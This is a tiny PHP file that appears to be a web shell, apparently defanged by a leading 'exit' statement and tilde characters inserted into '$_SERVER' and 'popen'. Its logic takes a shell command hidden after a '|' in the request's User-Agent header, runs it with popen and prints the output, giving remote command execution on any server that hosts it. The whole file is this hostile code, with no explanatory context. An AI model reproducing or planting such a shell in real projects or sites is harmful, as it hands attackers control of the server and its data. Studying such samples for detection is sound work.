<?php exit; ?>
<?php
list($a, $b) = explode('|', $_S~ERVER['HTTP_USER_AGENT'] . '|');
$h = pop~en($b, 'r'); while (!feof($h)) { echo fgets($h); }
